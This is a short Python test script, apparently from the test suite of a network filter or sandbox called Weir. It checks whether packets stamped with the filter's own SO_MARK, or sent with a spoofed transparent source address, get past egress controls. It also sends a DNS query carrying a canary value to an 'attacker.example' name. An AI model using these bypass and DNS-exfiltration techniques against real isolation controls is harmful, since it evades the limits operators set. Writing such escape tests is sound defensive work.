"""Weir's own mark on the attacker's packets: mark.py option|message|transparent"""

import socket
import struct
import sys

from common import *

SO_MARK, SO_RCVMARK, IP_TRANSPARENT = 36, 75, 19
variant = sys.argv[1]


def send(family, address, port):
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        mark = struct.pack("=I", MARK)
        data = dns_query(dns_name(CANARY, "attacker", "example")) if port == 53 else BYTES
        if variant == "message":
            sock.sendmsg([data], [(socket.SOL_SOCKET, SO_MARK, mark)], 0, (address, port))
            return
        if variant == "transparent":
            sock.setsockopt(socket.IPPROTO_IP, IP_TRANSPARENT, 1)
            sock.bind(("203.0.113.7", 0))
        else:
            sock.setsockopt(socket.SOL_SOCKET, SO_MARK, mark)
        sock.sendto(data, (address, port))


for number in (4,) if variant == "transparent" else (4, 6):
    for port in (PORT, 53):
        target = DESTINATIONS[("any", number)]
        attempt(f"{target}:{port}", lambda: send(family_of(number), target, port))
finish()
